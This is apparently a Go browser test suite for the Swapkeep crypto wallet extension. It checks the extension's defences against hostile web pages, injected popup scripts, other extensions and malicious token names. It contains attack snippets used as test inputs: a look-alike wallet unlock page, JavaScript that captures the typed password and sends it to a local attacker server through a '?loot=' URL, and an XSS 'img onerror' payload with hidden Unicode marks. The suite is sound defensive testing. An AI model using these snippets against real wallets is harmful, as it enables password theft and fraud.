//go:build browser

package browser

import (
	"bytes"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"swapkeep/test/await"
	"swapkeep/test/browser/desk"
	"swapkeep/test/browser/ui"
)

// A site is an attacker's web site. Its page looks like ours and asks for the password.
type site struct {
	*httptest.Server
	mu    sync.Mutex
	taken []string // what was sent to it
}

func newSite(t *testing.T) *site {
	t.Helper()
	s := &site{}
	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if loot := r.URL.Query().Get("loot"); loot != "" {
			s.mu.Lock()
			s.taken = append(s.taken, loot)
			s.mu.Unlock()
		}
		if strings.HasSuffix(r.URL.Path, ".js") {
			w.Header().Set("Content-Type", "text/javascript")
			fmt.Fprint(w, "globalThis.ranFromOutside = true")
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, `<!doctype html><html lang="en"><title>Swapkeep</title><link rel="icon" href="data:,">
			<h1>Unlock your wallet</h1><label>Password <input type="password"></label><button>Unlock</button>`)
	}))
	t.Cleanup(s.Close)
	return s
}

// awaitLoot waits until loot was sent to the site.
func (s *site) awaitLoot(loot string) bool {
	return await.Holds(10*time.Second, func() bool {
		s.mu.Lock()
		defer s.mu.Unlock()
		return slices.Contains(s.taken, loot)
	})
}

// TestWebPage checks that a web page cannot send to the extension, start the host, or read
// or frame our pages. It can imitate one, and detect that something listens on the price
// port.
func TestWebPage(t *testing.T) {
	each(t, func(t *testing.T, kind ui.Kind) {
		d := desk.New(t, desk.Options{})
		b := d.Browser(kind)
		ours := b.Open("popup.html")
		ours.Find("button", "Create wallet")
		w := b.Visit(newSite(t).URL)
		w.Find("heading", "Unlock your wallet")
		w.Find("textbox", "Password")
		closed := httptest.NewServer(http.NotFoundHandler())
		closed.Close()
		var got struct{ Send, Native, Read, Script, Opened, Port, Nobody string }
		w.Eval(fmt.Sprintf(`(async (ours, port, nobody) => {
			const api = globalThis.browser?.runtime ?? globalThis.chrome?.runtime ?? {};
			const came = (promise) => promise.then(() => "came", () => "refused");
			for (const page of ["popup.html", "background.js"]) {
				const frame = document.createElement("iframe");
				frame.src = ours + page;
				document.body.append(frame);
			}
			const script = document.createElement("script");
			const scripted = new Promise((resolve) => { script.onload = () => resolve("came"); script.onerror = () => resolve("refused"); });
			script.src = ours + "popup.js";
			document.body.append(script);
			return {
				send: typeof api.sendMessage, native: typeof api.connectNative, read: await came(fetch(ours + "popup.html")), script: await scripted,
				port: await came(fetch(port, { mode: "no-cors" })), nobody: await came(fetch(nobody, { mode: "no-cors" })),
			};
		})(%q, %q, %q)`, b.Origin(), d.Status().Prices.URL, closed.URL), &got)
		if got.Send != "undefined" || got.Native != "undefined" || got.Read != "refused" || got.Script != "refused" {
			t.Errorf("a page of the web: %+v", got)
		}
		if got.Port != "came" || got.Nobody != "refused" {
			t.Errorf("of the price port it sees %q, of one that nobody listens on %q", got.Port, got.Nobody)
		}
		time.Sleep(500 * time.Millisecond) // for a frame to load that should not
		var shown int
		ours.Eval(`chrome.runtime.getContexts({}).then((all) => all.filter((c) => c.documentUrl?.includes("popup.html")).length)`, &shown)
		if shown != 1 {
			t.Errorf("%d pages of ours are shown, one of them by us", shown)
		}
		_ = w.Console() // the browser's messages about each refusal
		b.Open("popup.html").Find("button", "Create wallet")
		ours.Eval(`chrome.runtime.getContexts({}).then((all) => all.filter((c) => c.documentUrl?.includes("popup.html")).length)`, &shown)
		if shown != 2 {
			t.Errorf("of two pages %d are seen: the test proves nothing", shown)
		}
	})
}

// TestScriptInThePopup checks that a script injected into the popup can neither load
// another script nor create one from text. It can read the password as it is typed, send it
// out by navigation, and show another plan than the one executed.
func TestScriptInThePopup(t *testing.T) {
	each(t, func(t *testing.T, kind ui.Kind) {
		s, d := newSite(t), desk.New(t, desk.Options{})
		w := d.RichWallet(desk.Base)
		d.Swapkeep("networks", "select", "8453")
		page := d.Browser(kind).Open("popup.html")
		var got struct{ Text, Inline, Outside, Sent string }
		page.Eval(fmt.Sprintf(`(async () => {
			const ran = document.documentElement.dataset; // which each of them would write
			setTimeout("document.documentElement.dataset.text = 'ran'", 0);
			const inline = document.createElement("script");
			inline.textContent = "document.documentElement.dataset.inline = 'ran'";
			const outside = document.createElement("script");
			const came = new Promise((done) => { outside.onload = () => done("ran"); outside.onerror = () => done("refused"); });
			outside.src = %[1]q + "/x.js";
			document.head.append(inline, outside);
			const sent = await fetch(%[1]q + "/?loot=by-fetch").then(() => "sent", () => "refused");
			document.addEventListener("input", (e) => { if (e.target.type === "password") ran.typed = e.target.value }, true);
			await new Promise((later) => setTimeout(later, 200));
			return { text: String(ran.text), inline: String(ran.inline), outside: await came, sent };
		})()`, s.URL), &got)
		if got.Text != "undefined" || got.Inline != "undefined" || got.Outside != "refused" || got.Sent != "refused" {
			t.Errorf("a script in the popup: %+v", got)
		}
		_ = page.Console() // what the policy refused

		unlock(page)
		p := &trader{Page: page, t: t, d: d, w: w}
		p.receive("USDC")
		p.amount("0.5")
		p.review()
		p.awaitEnabled("Swap now")
		p.Eval(`(() => {
			const all = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
			while (all.nextNode()) all.currentNode.data = all.currentNode.data.replaceAll("0.5", "0.000001");
		})()`, nil)
		p.AwaitText("You pay 0.000001")
		p.Click("button", "Swap now")
		if o := d.AwaitState("filled"); o.Terms.AmountIn != "500000000000000000" {
			t.Errorf("the plan that was carried out pays %s", o.Terms.AmountIn)
		}
		p.Find("heading", "Swap ended")
		p.Eval(fmt.Sprintf(`void setTimeout(() => location.assign(%q + "/?loot=" + encodeURIComponent(document.documentElement.dataset.typed)), 50)`, s.URL), nil)
		if !s.awaitLoot(desk.Password) {
			t.Errorf("to the site was carried %q", s.taken)
		}
		_ = p.Console()
	})
}

// spyExtension is an extension that may run scripts in all pages and see all tabs, as any may.
func spyExtension(t *testing.T) string {
	t.Helper()
	dir := tinyExtension(t)[ui.Chromium]
	path := filepath.Join(dir, "manifest.json")
	b, err := os.ReadFile(path)
	if err == nil {
		b = bytes.Replace(b, []byte(`["nativeMessaging"]`), []byte(`["nativeMessaging", "scripting", "tabs"], "host_permissions": ["<all_urls>"]`), 1)
		err = errors.Join(os.WriteFile(path, b, 0o600), os.WriteFile(filepath.Join(dir, "background.js"), nil, 0o600))
	}
	if err != nil {
		t.Fatal(err)
	}
	return dir
}

// TestAnotherExtension checks that an extension that may run scripts in any page cannot in
// ours, and that our background ignores it. It can imitate our window.
func TestAnotherExtension(t *testing.T) {
	t.Run("chromium", func(t *testing.T) {
		other := spyExtension(t)
		b := desk.New(t, desk.Options{OtherExtension: other}).Browser(ui.Chromium)
		b.Open("popup.html").Find("button", "Create wallet")
		web := newSite(t).URL
		b.Visit(web).Find("heading", "Unlock your wallet")
		p := b.Visit(origin(t, ui.Chromium, other) + "page.html")
		var got struct{ Web, Ours, Send, Connect, Native string }
		p.Eval(fmt.Sprintf(`(async (web, ours, id) => {
			const said = (promise) => promise.then((got) => "did " + JSON.stringify(got), (thrown) => thrown.message);
			const tabs = await chrome.tabs.query({});
			const into = (url) => said(chrome.scripting.executeScript({ target: { tabId: tabs.find((t) => t.url?.startsWith(url))?.id }, func: () => document.title }));
			const ended = (port) => new Promise((done) => {
				port.onMessage.addListener((m) => done("did " + JSON.stringify(m)));
				port.onDisconnect.addListener(() => done(chrome.runtime.lastError?.message ?? "ended"));
				port.postMessage({ jsonrpc: "2.0", id: 1, method: "keys.status" });
			});
			return {
				web: await into(web), ours: await into(ours), send: await said(chrome.runtime.sendMessage(id, { id: 1, method: "keys.status" })),
				connect: await ended(chrome.runtime.connect(id, { name: "shell" })), native: await ended(chrome.runtime.connectNative("app.swapkeep.host")),
			};
		})(%q, %q, %q)`, web, b.Origin(), strings.Trim(strings.TrimPrefix(b.Origin(), "chrome-extension:"), "/")), &got)
		if !strings.HasPrefix(got.Web, "did ") {
			t.Errorf("it may not even script the web: the test proves nothing: %s", got.Web)
		}
		for what, said := range map[string]string{"script our page": got.Ours, "send to us": got.Send, "connect to us": got.Connect, "start the host": got.Native} {
			if strings.HasPrefix(said, "did ") {
				t.Errorf("another extension can %s: %s", what, said)
			}
		}
		t.Logf("it is told %+v", got)
		p.Eval(`document.body.innerHTML = '<h1>Unlock your wallet</h1><label>Password <input type="password"></label>'`, nil)
		p.Find("textbox", "Password")
		_ = p.Console()
	})
}

// Hostile texts of a token that a service lists.
const (
	hostileName   = `<img src=x onerror="hacked=1"> `
	hostileSymbol = "<b>XSS</b>"
)

// TestHostileNames checks that token names are drawn as text, without characters that
// reverse or hide letters.
func TestHostileNames(t *testing.T) {
	each(t, func(t *testing.T, kind ui.Kind) {
		p := newTrader(t, kind)
		p.d.Lie("intent", "/v1/tokens", "/data/0", map[string]any{
			"chainId": desk.Base, "address": thief, "decimals": 18, "name": hostileName + "\u202egnp\u202c\u200bname", "symbol": hostileSymbol + "\u200d\ufeff",
		})
		p.provider("Intent")
		p.Click("button", "/^You receive on [^:]*: /")
		p.Fill("Search by name or address", "xss")
		p.AwaitText(hostileSymbol, strings.TrimSpace(hostileName))
		var drawn struct {
			Elements int
			Ran      bool
			Marks    string
		}
		p.Eval(`({
			elements: document.querySelectorAll("img[src=x], b").length, ran: "hacked" in globalThis,
			marks: (document.body.textContent.match(/[\u200b-\u200f\u202a-\u202e\ufeff]/g) ?? []).map((c) => c.charCodeAt(0).toString(16)).join(" "),
		})`, &drawn)
		if drawn.Elements != 0 || drawn.Ran || drawn.Marks != "" {
			t.Errorf("hostile words are drawn as %+v", drawn)
		}
	})
}
